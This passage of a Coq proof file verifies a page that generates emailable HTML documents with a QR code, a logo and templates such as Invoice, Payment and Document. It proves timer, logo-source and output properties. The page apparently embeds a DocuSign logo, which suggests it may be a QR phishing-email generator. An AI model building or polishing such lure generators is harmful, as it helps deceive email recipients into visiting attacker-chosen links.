               (snd (PagesIndex.handleGenerate Denied.env Sample.props_index
                       (Sample.index_with_url Sample.doc_url))) eq_refl).
    repeat split.
Defined.

(** The 'Copied' status never sticks: in every world the page can reach,
    a copy status of [copied] comes with a pending timer, and that timer
    coming due sets the status back to [idle]. *)
Theorem copied_has_pending_reset :
  forall env props (w : Part000.World),
    Part000.reachable env props w ->
    Part000.copyStatus (state w) = copied ->
    0 < timers w
    /\ Part000.copyStatus (state (Part000.step env props Part000.TimerFires w)) = idle.
Proof.
  intros env props w Hreach.
  assert (Hinv : Part000.copyStatus (state w) = copied -> 0 < timers w).
  { induction Hreach as [clip | w ev Hreach IH Hen].
    - intros H. discriminate H.
    - unfold Part000.step. destruct ev; cbn [Part000.handler].
      + exact IH.
      + exact IH.
      + unfold Part000.handleFileChange.
        destruct (Part000.first_file files); exact IH.
      + exact IH.
      + destruct (JS.truthy (Part000.url (state w))) eqn:Hurl.
        * destruct (handleGenerate_run env props w Hurl)
            as (? & ? & ? & _ & _ & _ & Hgen).
          rewrite Hgen.
          destruct (QRCode_toDataURL env (Part000.url (state w)) qrOptions);
            [exact IH | intros H; discriminate H].
        * unfold Part000.handleGenerate. rewrite Hurl. exact IH.
      + unfold Part000.handleCopy. run_monad.
        destruct (clipboard_writeText env (Part000.html (state w)));
          [intros _; cbn; lia | exact IH].
      + unfold Part000.reader_onloadend.
        destruct (nth_error (readers w) i); exact IH.
      + unfold Part000.timer_fires. cbn in Hen.
        destruct (timers w); [discriminate Hen | intros H; discriminate H]. }
  intros Hc. pose proof (Hinv Hc) as Hpos. split; [exact Hpos|].
  unfold Part000.step. cbn [Part000.handler]. unfold Part000.timer_fires.
  destruct (timers w); [lia | reflexivity].
Qed.

Lemma copied_has_pending_reset_witness :
  let w := Sample.after [Part000.UrlInput Sample.doc_url;
                         Part000.GenerateClick; Part000.CopyClick] in
  Part000.copyStatus (state w) = copied
  /\ 0 < timers w
  /\ Part000.copyStatus
       (state (Part000.step Sample.env Sample.props Part000.TimerFires w)) = idle.
Proof.
  cbv zeta. split; [reflexivity|].
  apply (copied_has_pending_reset Sample.env Sample.props).
  - unfold Sample.after, Part000.run. cbn [fold_left].
    repeat (apply Part000.reachable_step; [|reflexivity]).
    apply Part000.reachable_init.
  - reflexivity.
Defined.

(** ** The template the page can be in *)

(** In every world the page can reach the template is one of the five
    options of the [select], so [templateConfig] answers it with its own entry
    and the fallback and the inherited names never come into play. *)
Theorem reachable_template_is_an_option :
  forall env props (w : Part000.World),
    Part000.reachable env props w ->
    In (Part000.template (state w)) Part000.template_options
    /\ exists t,
         Part000.own_property (Part000.template (state w)) Part000.templateConfig
         = Some t
         /\ Part000.config (Part000.template (state w)) = Part000.Entry t.
Proof.
  intros env props w Hreach.
  assert (Hin : In (Part000.template (state w)) Part000.template_options).
  { induction Hreach as [clip | w ev Hreach IH Hen].
    - cbn. auto.
    - unfold Part000.step. destruct ev; cbn [Part000.handler].
      + exact IH.
      + unfold Part000.enabled in Hen.
        apply existsb_exists in Hen as (k & Hk & Heq).
        apply String.eqb_eq in Heq. subst k. exact Hk.
      + unfold Part000.handleFileChange.
        destruct (Part000.first_file files); exact IH.
      + exact IH.
      + destruct (JS.truthy (Part000.url (state w))) eqn:Hurl.
        * destruct (handleGenerate_run env props w Hurl)
            as (? & ? & ? & _ & _ & _ & Hgen).
          rewrite Hgen.
          destruct (QRCode_toDataURL env (Part000.url (state w)) qrOptions);
            exact IH.
        * unfold Part000.handleGenerate. rewrite Hurl. exact IH.
      + unfold Part000.handleCopy. run_monad.
        destruct (clipboard_writeText env (Part000.html (state w))); exact IH.
      + unfold Part000.reader_onloadend.
        destruct (nth_error (readers w) i); exact IH.
      + unfold Part000.timer_fires. destruct (timers w); exact IH. }
  split; [exact Hin|].
  cbn in Hin.
  destruct Hin as [H|[H|[H|[H|[H|[]]]]]]; rewrite <- H; eexists; split; reflexivity.
Qed.

Lemma reachable_template_is_an_option_witness :
  let w := Sample.after [Part000.TemplateSelect "Statement";
                         Part000.UrlInput Sample.doc_url;
                         Part000.GenerateClick] in
  In (Part000.template (state w)) Part000.template_options
  /\ exists t,
       Part000.own_property (Part000.template (state w)) Part000.templateConfig
       = Some t
       /\ Part000.config (Part000.template (state w)) = Part000.Entry t.
Proof.
  cbv zeta. apply (reachable_template_is_an_option Sample.env Sample.props).
  unfold Sample.after, Part000.run. cbn [fold_left].
  repeat (apply Part000.reachable_step; [|reflexivity]).
  apply Part000.reachable_init.
Defined.

(** ** Logo sources, when reads are left to finish *)

(** As long as the logo URL field is edited only while no file read is in
    flight, the two logo sources exclude each other in every world the page
    reaches: a file or its data is never set together with a remote URL.
    Such worlds are among those the page can reach. *)
Theorem settled_sources_are_exclusive :
  forall env props (w : Part000.World),
    reachable_settled env props w ->
    Part000.reachable env props w
    /\ Part000.local_source_active (state w)
       && Part000.remote_source_active (state w) = false.
Proof.
  intros env props w Hs.
  assert (Hreach : Part000.reachable env props w).
  { induction Hs as [clip | w ev Hs IH Hen _];
      [apply Part000.reachable_init | now apply Part000.reachable_step]. }
  split; [exact Hreach|]. clear Hreach.
  assert (Hinv : (readers w = [] /\ Part000.local_source_active (state w) = false)
                 \/ Part000.logoUrl (state w) = "").
  { induction Hs as [clip | w ev Hs IH Hen Hquiet].
    - now right.
    - unfold Part000.step. destruct ev; cbn [Part000.handler].
      + exact IH.
      + exact IH.
      + unfold Part000.handleFileChange.
        destruct (Part000.first_file files); [now right | exact IH].
      + left. split; [exact Hquiet | reflexivity].
      + destruct (JS.truthy (Part000.url (state w))) eqn:Hurl.
        * destruct (handleGenerate_run env props w Hurl)
            as (? & ? & ? & _ & _ & _ & Hgen).
          rewrite Hgen.
          destruct (QRCode_toDataURL env (Part000.url (state w)) qrOptions);
            exact IH.
        * unfold Part000.handleGenerate. rewrite Hurl. exact IH.
      + unfold Part000.handleCopy. run_monad.
        destruct (clipboard_writeText env (Part000.html (state w))); exact IH.
      + unfold Part000.reader_onloadend.
        destruct (nth_error (readers w) i) as [file|] eqn:Hnth; [|exact IH].
        destruct IH as [[Hnone _] | Hurl].
        * rewrite Hnone in Hnth. destruct i; discriminate Hnth.
        * right. exact Hurl.
      + unfold Part000.timer_fires. destruct (timers w); exact IH. }
  destruct Hinv as [[_ Hlocal] | Hurl].
  - now rewrite Hlocal.
  - unfold Part000.remote_source_active. rewrite Hurl. apply andb_false_r.
Qed.

Lemma settled_sources_are_exclusive_witness :
  let w := Sample.after [Part000.FileInput (Some [Sample.logo_file]);
                         Part000.ReaderLoadEnd 0;
                         Part000.LogoUrlInput Sample.live_logo_url] in
  Part000.remote_source_active (state w) = true
  /\ Part000.local_source_active (state w)
     && Part000.remote_source_active (state w) = false.
Proof.
  cbv zeta. split; [reflexivity|].
  apply (settled_sources_are_exclusive Sample.env Sample.props).
  unfold Sample.after, Part000.run. cbn [fold_left].
  repeat (apply settled_step; [| reflexivity | first [reflexivity | exact I]]).
  apply settled_init.
Defined.

(** ** What leaves the page *)

Lemma customLogoDataUri_fetches env s :
  exists (v : option string) (warn : list string) (cs : list Call),
    (forall w : Part000.World,
       Part000.customLogoDataUri env s w
       = (inr v, mkWorld (state w) (alerts w ++ warn) (console w) (calls w ++ cs)
                         (clipboard w) (readers w) (timers w)))
    /\ (cs = []
        \/ (cs = [CallFetch (Part000.logoUrl s)]
            /\ JS.truthy (Part000.logoUrl s) = true
            /\ JS.truthy_opt (Part000.localLogoDataUri s) = false)).
Proof.
  unfold Part000.customLogoDataUri.
  destruct (JS.truthy_opt (Part000.localLogoDataUri s)) eqn:Hloc.
  - exists (Part000.localLogoDataUri s), [], []. split; [|auto].
    intros [st al co ca cl rd tm]. unfold Page.ret. cbn. now rewrite !app_nil_r.
  - destruct (JS.truthy (Part000.logoUrl s)) eqn:Hu.
    + destruct (fetchLogoDataUri_run env (Part000.logoUrl s)) as [r Hr].
      destruct r as [e|v].
      * exists None, [Part000.fetch_warning], [CallFetch (Part000.logoUrl s)].
        split; [|auto]. intros w. run_monad. rewrite Hr. reflexivity.
      * exists (Some v), [], [CallFetch (Part000.logoUrl s)]. split; [|auto].
        intros w. run_monad. rewrite Hr. cbn. now rewrite app_nil_r.
    + exists None, [], []. split; [|auto].
      intros [st al co ca cl rd tm]. unfold Page.ret. cbn. now rewrite !app_nil_r.
Qed.

(** No call leaves the page with an empty argument: in every world the page
    can reach, every fetch was of a non-empty URL, every QR encoding of a
    non-empty text, and every clipboard write of a non-empty string. *)
Theorem reachable_calls_have_arguments :
  forall env props (w : Part000.World),
    Part000.reachable env props w ->
    forall c, In c (calls w) -> JS.truthy (call_argument c) = true.
Proof.
  intros env props w Hreach.
  induction Hreach as [clip | w ev Hreach IH Hen]; [intros c []|].
  unfold Part000.step. destruct ev; cbn [Part000.handler].
  - exact IH.
  - exact IH.
  - unfold Part000.handleFileChange. destruct (Part000.first_file files); exact IH.
  - exact IH.
  - destruct (JS.truthy (Part000.url (state w))) eqn:Hurl.
    + destruct (customLogoDataUri_fetches env (state w)) as (v & warn & cs & Hrun & Hcs).
      unfold Part000.handleGenerate. rewrite Hurl. cbn [negb].
      run_monad. rewrite Hrun. cbn [state calls].
      assert (Hnew : forall c,
                 In c ((calls w ++ cs)
                       ++ [CallToDataURL (Part000.url (state w)) qrOptions]) ->
                 JS.truthy (call_argument c) = true).
      { intros c Hin. apply in_app_or in Hin as [Hin|Hin].
        - apply in_app_or in Hin as [Hin|Hin]; [exact (IH c Hin)|].
          destruct Hcs as [-> | (-> & Hu & _)]; [destruct Hin|].
          destruct Hin as [<-|[]]. exact Hu.
        - destruct Hin as [<-|[]]. exact Hurl. }
      destruct (QRCode_toDataURL env (Part000.url (state w)) qrOptions);
        cbn [snd calls]; exact Hnew.
    + unfold Part000.handleGenerate. rewrite Hurl. exact IH.
  - unfold Part000.handleCopy. run_monad.
    assert (Hnew : forall c,
               In c (calls w ++ [CallWriteText (Part000.html (state w))]) ->
               JS.truthy (call_argument c) = true).
    { intros c Hin. apply in_app_or in Hin as [Hin|Hin]; [exact (IH c Hin)|].
      destruct Hin as [<-|[]]. exact Hen. }
    destruct (clipboard_writeText env (Part000.html (state w)));
      cbn [snd calls]; exact Hnew.
  - unfold Part000.reader_onloadend.
    destruct (nth_error (readers w) i); exact IH.
  - unfold Part000.timer_fires. destruct (timers w); exact IH.
Qed.

Lemma reachable_calls_have_arguments_witness :
  let w := Sample.after [Part000.UrlInput Sample.doc_url;
                         Part000.LogoUrlInput Sample.live_logo_url;
                         Part000.GenerateClick; Part000.CopyClick] in
  List.length (calls w) = 3
  /\ forall c, In c (calls w) -> JS.truthy (call_argument c) = true.
Proof.
  cbv zeta. split; [reflexivity|].
  apply (reachable_calls_have_arguments Sample.env Sample.props).
  unfold Sample.after, Part000.run. cbn [fold_left].
  repeat (apply Part000.reachable_step; [|reflexivity]).
  apply Part000.reachable_init.
Defined.

(** ** What the page shows and hands out *)

(** A generated document in a reachable world, by the way of its logo. *)
Lemma generated_document_valid env (w : Part000.World) qr custom :
  Env_embeds env ->
  Part000.reachable env (Part000.getStaticProps env) w ->
  (forall w0 : Part000.World,
     exists w1, Part000.customLogoDataUri env (state w) w0 = (inr custom, w1)) ->
  QRCode_toDataURL env (Part000.url (state w)) qrOptions = inr qr ->
  Scan.valid_document "QR Code" qr
    (Part000.buildEmailHtml env (Part000.template (state w)) qr
       (Part000.logoToUse (Part000.getStaticProps env) (state w) custom)).
Proof.
  intros Henv Hreach Hrun Hqr.
  unfold Part000.buildEmailHtml. apply document_valid.
  - destruct Henv as (_ & Hq & _). exact (Hq _ _ _ Hqr).
  - unfold Part000.logoToUse, JS.or_else.
    destruct (JS.truthy_opt custom) eqn:Hc.
    + intros _. destruct (Hrun w) as [w1 Hw1].
      exact (customLogo_ok env (state w) w w1 custom Henv
               (reachable_local_ok env _ w Henv Hreach) Hw1 Hc).
    + destruct (Part000.template (state w) =? "Document")%string;
        [|intros H; discriminate H].
      intros _. eexists. split; [reflexivity|].
      apply readBase64_embeddable, Henv.
Qed.

(** Where file reads and the QR library yield [data:] URIs, the page never
    shows or hands out anything but a well-formed document: in every world it
    can reach, the [html] cell is empty or a valid document, and every string
    it has passed to the clipboard was a valid document. *)
Theorem reachable_output_is_valid :
  forall env (w : Part000.World),
    Env_embeds env ->
    Part000.reachable env (Part000.getStaticProps env) w ->
    (Part000.html (state w) = ""
     \/ exists qr, Scan.valid_document "QR Code" qr (Part000.html (state w)))
    /\ (forall t, In (CallWriteText t) (calls w) ->
                  exists qr, Scan.valid_document "QR Code" qr t).
Proof.
  intros env w Henv Hreach.
  induction Hreach as [clip | w ev Hreach IH Hen].
  - split; [now left | intros t []].
  - destruct IH as [IHhtml IHcalls].
    unfold Part000.step. destruct ev; cbn [Part000.handler].
    + split; [exact IHhtml | exact IHcalls].
    + split; [exact IHhtml | exact IHcalls].
    + unfold Part000.handleFileChange.
      destruct (Part000.first_file files); split; assumption.
    + split; [exact IHhtml | exact IHcalls].
    + destruct (JS.truthy (Part000.url (state w))) eqn:Hurl.
      * destruct (handleGenerate_run env (Part000.getStaticProps env) w Hurl)
          as (custom & warn & cs & Hrun & _ & Hcs & Hgen).
        rewrite Hgen.
        assert (Hold : forall t,
                   In (CallWriteText t)
                     ((calls w ++ cs)
                      ++ [CallToDataURL (Part000.url (state w)) qrOptions]) ->
                   exists qr, Scan.valid_document "QR Code" qr t).
        { intros t Hin. apply in_app_or in Hin as [Hin|Hin].
          - apply in_app_or in Hin as [Hin|Hin]; [exact (IHcalls t Hin)|].
            destruct Hcs as [-> | ->]; [destruct Hin|].
            destruct Hin as [Hin|[]]. discriminate Hin.
          - destruct Hin as [Hin|[]]. discriminate Hin. }
        destruct (QRCode_toDataURL env (Part000.url (state w)) qrOptions)
          as [e|qr] eqn:Hqr; cbn [snd state calls]; (split; [|exact Hold]).
        -- exact IHhtml.
        -- right. exists qr.
           cbn [Part000.html Part000.setHtml Part000.setCopyStatus].
           apply generated_document_valid; try assumption.
           intros w0. eexists. apply Hrun.
      * unfold Part000.handleGenerate. rewrite Hurl. split; assumption.
    + unfold Part000.handleCopy. run_monad.
      assert (Hnew : forall t,
                 In (CallWriteText t)
                   (calls w ++ [CallWriteText (Part000.html (state w))]) ->
                 exists qr, Scan.valid_document "QR Code" qr t).
      { intros t Hin. apply in_app_or in Hin as [Hin|Hin]; [exact (IHcalls t Hin)|].
        destruct Hin as [Hin|[]]. injection Hin as <-.
        destruct IHhtml as [Hempty|Hvalid]; [|exact Hvalid].
        unfold Part000.enabled in Hen. rewrite Hempty in Hen. discriminate Hen. }
      destruct (clipboard_writeText env (Part000.html (state w)));
        cbn [snd state calls]; (split; [exact IHhtml | exact Hnew]).
    + unfold Part000.reader_onloadend.
      destruct (nth_error (readers w) i); split; assumption.
    + unfold Part000.timer_fires. destruct (timers w); split; assumption.
Qed.

Lemma reachable_output_is_valid_witness :
  let w := Part000.run Sample.env (Part000.getStaticProps Sample.env)
             [Part000.UrlInput Sample.doc_url;
              Part000.LogoUrlInput Sample.live_logo_url;
              Part000.GenerateClick; Part000.CopyClick]
             (Part000.initialWorld "") in
  JS.truthy (Part000.html (state w)) = true
  /\ (Part000.html (state w) = ""
      \/ exists qr, Scan.valid_document "QR Code" qr (Part000.html (state w)))
  /\ (forall t, In (CallWriteText t) (calls w) ->
                exists qr, Scan.valid_document "QR Code" qr t).
Proof.
  cbv zeta. split; [reflexivity|].
  apply (reachable_output_is_valid Sample.env).
  - exact sample_env_embeds.
  - unfold Part000.run. cbn [fold_left].
    repeat (apply Part000.reachable_step; [|reflexivity]).
    apply Part000.reachable_init.
Defined.

Ltac run_monad_in H :=
  cbv beta iota delta
    [Page.bind Page.try_catch Page.ret Page.throw Page.alert Page.update
     Page.console_error Page.call Page.set_clipboard Page.set_readers
     Page.set_timers Page.await Page.toDataURL] in H.

(** A generated document is never empty, so that a generation that succeeds
    brings up the copy button and the preview. *)
Lemma buildEmailHtml_truthy env t qr logo :
  JS.truthy (Part000.buildEmailHtml env t qr logo) = true.
Proof. reflexivity. Qed.

(** Generate, copy, wait.  After a generation that succeeds the button reads
    'Copy HTML' on blue and the preview shows the document; pressing the
    button, when the clipboard takes the write, puts that document on the
    clipboard and turns the button to 'Copied!' on green; when the timer
    comes due the button is back as it was, and the document is still the
    one shown. *)
Theorem generate_copy_reset :
  forall env props (w : Part000.World) qr,
    let w1 := Part000.step env props Part000.GenerateClick w in
    let w2 := Part000.step env props Part000.CopyClick w1 in
    let w3 := Part000.step env props Part000.TimerFires w2 in
    JS.truthy (Part000.url (state w)) = true ->
    QRCode_toDataURL env (Part000.url (state w)) qrOptions = inr qr ->
    clipboard_writeText env (Part000.html (state w1)) = true ->
    View.copy_button (state w1) = Some (View.mkButton "Copy HTML" "#005eb8")
    /\ View.preview (state w1) = Some (Part000.html (state w1))
    /\ Part000.enabled Part000.CopyClick w1 = true
    /\ clipboard w2 = Part000.html (state w1)
    /\ View.copy_button (state w2) = Some (View.mkButton "Copied!" "#28a745")
    /\ Part000.enabled Part000.TimerFires w2 = true
    /\ View.copy_button (state w3) = Some (View.mkButton "Copy HTML" "#005eb8")
    /\ View.preview (state w3) = Some (Part000.html (state w1))
    /\ clipboard w3 = Part000.html (state w1).
Proof.
  intros env props w qr w1 w2 w3 Hurl Hqr Hok.
  destruct (handleGenerate_run env props w Hurl)
    as (custom & warn & cs & _ & _ & _ & Hgen).
  rewrite Hqr in Hgen.
  assert (Hw1 : w1 = snd (Part000.handleGenerate env props w)) by reflexivity.
  rewrite Hgen in Hw1. cbn [snd] in Hw1.
  assert (Hw2 : w2 = snd (Part000.handleCopy env w1)) by reflexivity.
  assert (Hw3 : w3 = snd (Part000.timer_fires w2)) by reflexivity.
  clearbody w3 w2. clearbody w1.
  unfold Part000.handleCopy in Hw2. run_monad_in Hw2.
  cbn [state calls] in Hw2. rewrite Hok in Hw2. cbn [snd] in Hw2.
  subst w2. unfold Part000.timer_fires in Hw3. cbn [timers] in Hw3.
  run_monad_in Hw3. cbn [snd] in Hw3. subst w3 w1.
  unfold View.copy_button, View.preview, Part000.enabled.
  cbn [state clipboard timers Part000.html Part000.copyStatus
       Part000.setHtml Part000.setCopyStatus].
  rewrite buildEmailHtml_truthy. repeat split.
Qed.

Lemma generate_copy_reset_witness :
  let w := Sample.after [Part000.UrlInput Sample.doc_url] in
  let w1 := Part000.step Sample.env Sample.props Part000.GenerateClick w in
  let w2 := Part000.step Sample.env Sample.props Part000.CopyClick w1 in
  let w3 := Part000.step Sample.env Sample.props Part000.TimerFires w2 in
  View.copy_button (state w2) = Some (View.mkButton "Copied!" "#28a745")
  /\ View.copy_button (state w3) = Some (View.mkButton "Copy HTML" "#005eb8")
  /\ clipboard w3 = Part000.html (state w1).
Proof.
  cbv zeta.
  pose proof (generate_copy_reset Sample.env Sample.props
                (Sample.after [Part000.UrlInput Sample.doc_url]) Sample.qr_png
                eq_refl eq_refl eq_refl) as H.
  cbv zeta in H.
  destruct H as (_ & _ & _ & _ & H2 & _ & H3 & _ & Hclip).
  split; [exact H2|]. split; [exact H3 | exact Hclip].
Defined.

(** ** The images of a document *)

Section ImageFacts.

Local Open Scope string_scope.

Ltac count_in_pieces :=
  rewrite !count_sub_assemble;
  [ vm_compute; reflexivity
  | cbn [pieces_ok]; repeat split; first [assumption | vm_compute; reflexivity] .. ].

(** A document has the QR image and, exactly when a logo resolved, one logo
    image before it: two [img] elements with a logo, one without, and the
    logo's alternative text as often as there is a logo.  The document of
    [index.tsx] always has three: logo, icon and QR image. *)
Theorem document_image_count :
  (forall t y qr logo,
      embeddable qr = true ->
      (JS.truthy_opt logo = true -> exists l, logo = Some l /\ embeddable l = true) ->
      img_count (Part000.document (Part000.config t) y qr logo)
      = (if JS.truthy_opt logo then 2 else 1)
      /\ alt_count "Company Logo" (Part000.document (Part000.config t) y qr logo)
         = (if JS.truthy_opt logo then 1 else 0))
  /\ (forall env qr,
      Env_embeds env ->
      embeddable qr = true ->
      img_count (PagesIndex.buildEmailHtml env (PagesIndex.getStaticProps env) qr) = 3).
Proof.
  split.
  - intros t y qr logo Hqr Hlogo.
    destruct (embeddable_split _ Hqr) as (q & -> & (Hq1 & Hq2 & Hq3 & Hq4)).
    destruct (config_texts_clean t)
      as [(Hh1 & Hh2 & Hh3 & Hh4) (Hc1 & Hc2 & Hc3 & Hc4)].
    destruct (Number_toString_clean y) as (Hy1 & Hy2 & Hy3 & Hy4).
    destruct (JS.truthy_opt logo) eqn:Ht.
    + destruct (Hlogo eq_refl) as (l & -> & Hl).
      destruct (embeddable_split _ Hl) as (l' & -> & (Hl1 & Hl2 & Hl3 & Hl4)).
      rewrite (document_pieces_logo (Part000.config t) y q l').
      unfold img_count, alt_count, img_tag. split; count_in_pieces.
    + assert (Hblock : Part000.logo_block logo = "").
      { destruct logo as [l|]; [|reflexivity]. cbn in Ht. cbn. now rewrite Ht. }
      rewrite (document_pieces_plain (Part000.config t) y q logo Hblock).
      unfold img_count, alt_count, img_tag. split; count_in_pieces.
  - intros env qr Henv Hqr.
    destruct (embeddable_split _ Hqr) as (q & Hq & (Hq1 & Hq2 & Hq3 & Hq4)).
    destruct Henv as (_ & _ & Hfs).
    destruct (attr_safe_clean _ (Hfs "docusign_logo.png")) as (Hl1 & Hl2 & Hl3 & Hl4).
    destruct (attr_safe_clean _ (Hfs "doc_icon.png")) as (Hi1 & Hi2 & Hi3 & Hi4).
    destruct (Number_toString_clean (Date_getFullYear env)) as (Hy1 & Hy2 & Hy3 & Hy4).
    rewrite (index_pieces env qr q Hq).
    unfold img_count, img_tag. count_in_pieces.
Qed.

Lemma document_image_count_witness :
  img_count (Part000.document (Part000.config "Invoice") 2026 Sample.qr_png
               (Some Sample.png)) = 2
  /\ img_count (Part000.document (Part000.config "Invoice") 2026 Sample.qr_png None) = 1
  /\ img_count (PagesIndex.buildEmailHtml Sample.env
                  (PagesIndex.getStaticProps Sample.env) Sample.qr_png) = 3.
Proof.
  split; [|split].
  - refine (proj1 (proj1 document_image_count "Invoice" 2026%Z Sample.qr_png
                     (Some Sample.png) eq_refl _)).
    intros _. exists Sample.png. split; reflexivity.
  - refine (proj1 (proj1 document_image_count "Invoice" 2026%Z Sample.qr_png
                     None eq_refl _)).
    intros H. discriminate H.
  - exact (proj2 document_image_count Sample.env Sample.qr_png
             sample_env_embeds eq_refl).
Defined.

Lemma string_app_inv_tail (r : string) : forall a b, a ++ r = b ++ r -> a = b.
Proof.
  assert (Hlen : forall a b : string,
             String.length (a ++ b) = String.length a + String.length b).
  { intros a b. induction a as [|x a IH]; cbn; [reflexivity | now rewrite IH]. }
  induction a as [|x a IH]; intros b H.
  - destruct b as [|y b]; [reflexivity|].
    apply (f_equal String.length) in H. cbn in H. rewrite Hlen in H. lia.
  - destruct b as [|y b].
    + apply (f_equal String.length) in H. cbn in H. rewrite Hlen in H. lia.
    + cbn in H. injection H as -> H. f_equal. exact (IH b H).
Qed.

(** The document keeps the QR image apart from everything around it: with
    the same template, year and logo, different QR images give different
    documents.  Both pages. *)
Theorem document_tells_qr_images_apart :
  (forall c y logo qr qr',
      qr <> qr' ->
      Part000.document c y qr logo <> Part000.document c y qr' logo)
  /\ (forall env props qr qr',
      qr <> qr' ->
      PagesIndex.buildEmailHtml env props qr <> PagesIndex.buildEmailHtml env props qr').
Proof.
  split.
  - intros c y logo qr qr' Hne H. apply Hne.
    unfold Part000.document in H.
    do 7 apply string_app_inv_head in H.
    exact (string_app_inv_tail _ _ _ H).
  - intros env props qr qr' Hne H. apply Hne.
    unfold PagesIndex.buildEmailHtml in H.
    do 5 apply string_app_inv_head in H.
    exact (string_app_inv_tail _ _ _ H).
Qed.

End ImageFacts.

Lemma document_tells_qr_images_apart_witness :
  Part000.document (Part000.config "Payment") 2026 Sample.qr_png None
  <> Part000.document (Part000.config "Payment") 2026 Sample.png None
  /\ PagesIndex.buildEmailHtml Sample.env Sample.props_index Sample.qr_png
     <> PagesIndex.buildEmailHtml Sample.env Sample.props_index Sample.png.
Proof.
  split.
  - apply (proj1 document_tells_qr_images_apart). discriminate.
  - apply (proj2 document_tells_qr_images_apart). discriminate.
Defined.

(** ** File reads that overlap *)

(** When two files are chosen one after the other, the local logo is the
    data of the read that completes last, not of the file chosen last: if
    the reads complete in the order the files were chosen it is the second
    file's data, if they complete in the other order it is the first file's,
    while [logoFile] is the second file in both cases. *)
Theorem last_read_to_complete_wins :
  forall env props (w : Part000.World) f1 f2,
    readers w = [] ->
    let chosen := [Part000.FileInput (Some [f1]); Part000.FileInput (Some [f2])] in
    let in_order :=
      Part000.run env props
        (chosen ++ [Part000.ReaderLoadEnd 0; Part000.ReaderLoadEnd 0]) w in
    let reversed :=
      Part000.run env props
        (chosen ++ [Part000.ReaderLoadEnd 1; Part000.ReaderLoadEnd 0]) w in
    (Part000.logoFile (state in_order) = Some f2
     /\ Part000.localLogoDataUri (state in_order)
        = FileReader_readAsDataURL env (file_blob f2)
     /\ readers in_order = [])
    /\ (Part000.logoFile (state reversed) = Some f2
        /\ Part000.localLogoDataUri (state reversed)
           = FileReader_readAsDataURL env (file_blob f1)
        /\ readers reversed = []).
Proof.
  intros env props [st al co ca cl rd tm] f1 f2 Hrd. cbn in Hrd. subst rd.
  cbv zeta. repeat split.
Qed.

Lemma last_read_to_complete_wins_witness :
  let f2 := mkFile "other.png" (mkBlob "image/png" "OTHER") in
  let reversed :=
    Sample.after [Part000.FileInput (Some [Sample.logo_file]);
                  Part000.FileInput (Some [f2]);
                  Part000.ReaderLoadEnd 1; Part000.ReaderLoadEnd 0] in
  Part000.logoFile (state reversed) = Some f2
  /\ Part000.localLogoDataUri (state reversed)
     = FileReader_readAsDataURL Sample.env (file_blob Sample.logo_file).
Proof.
  cbv zeta.
  destruct (last_read_to_complete_wins Sample.env Sample.props
              (Part000.initialWorld "") Sample.logo_file
              (mkFile "other.png" (mkBlob "image/png" "OTHER")) eq_refl)
    as (_ & Hfile & Hdata & _).
  split; [exact Hfile | exact Hdata].
Defined.

(** ** The Document template *)

(** With the props of [getStaticProps], a generation for the template
    Document that succeeds always renders a logo row: whatever the logo
    sources gave, the logo handed to [buildEmailHtml] is a non-empty
    string. *)
Theorem document_template_always_has_a_logo :
  forall env (w : Part000.World) qr,
    let w' := snd (Part000.handleGenerate env (Part000.getStaticProps env) w) in
    Part000.template (state w) = "Document" ->
    JS.truthy (Part000.url (state w)) = true ->
    QRCode_toDataURL env (Part000.url (state w)) qrOptions = inr qr ->
    exists l,
      JS.truthy l = true
      /\ Part000.logo_block (Some l) <> ""
      /\ Part000.html (state w')
         = Part000.buildEmailHtml env "Document" qr (Some l).
Proof.
  intros env w qr w' Ht Hurl Hqr. subst w'.
  destruct (handleGenerate_run env (Part000.getStaticProps env) w Hurl)
    as (custom & warn & cs & _ & _ & _ & Hgen).
  rewrite Hgen, Hqr, Ht.
  cbn [snd state Part000.html Part000.setHtml Part000.setCopyStatus].
  unfold Part000.logoToUse, JS.or_else. rewrite Ht.
  assert (Hblock : forall l, JS.truthy l = true -> Part000.logo_block (Some l) <> "").
  { intros l Hl. unfold Part000.logo_block. rewrite Hl. discriminate. }
  destruct (JS.truthy_opt custom) eqn:Hc.
  - destruct custom as [l|]; [|discriminate Hc].
    exists l. split; [exact Hc|]. split; [exact (Hblock l Hc) | reflexivity].
  - exists (Part000.defaultLogoDataUri (Part000.getStaticProps env)).
    split; [reflexivity|]. split; [apply Hblock|]; reflexivity.
Qed.

Lemma document_template_always_has_a_logo_witness :
  let w := Part000.run Sample.env (Part000.getStaticProps Sample.env)
             [Part000.UrlInput Sample.doc_url;
              Part000.LogoUrlInput Sample.dead_logo_url]
             (Part000.initialWorld "") in
  exists l,
    JS.truthy l = true
    /\ Part000.logo_block (Some l) <> ""
    /\ Part000.html
         (state (snd (Part000.handleGenerate Sample.env
                        (Part000.getStaticProps Sample.env) w)))
       = Part000.buildEmailHtml Sample.env "Document" Sample.qr_png (Some l).
Proof.
  cbv zeta.
  exact (document_template_always_has_a_logo Sample.env
           (Part000.run Sample.env (Part000.getStaticProps Sample.env)
              [Part000.UrlInput Sample.doc_url;
               Part000.LogoUrlInput Sample.dead_logo_url]
              (Part000.initialWorld ""))
           Sample.qr_png eq_refl eq_refl eq_refl).
Defined.
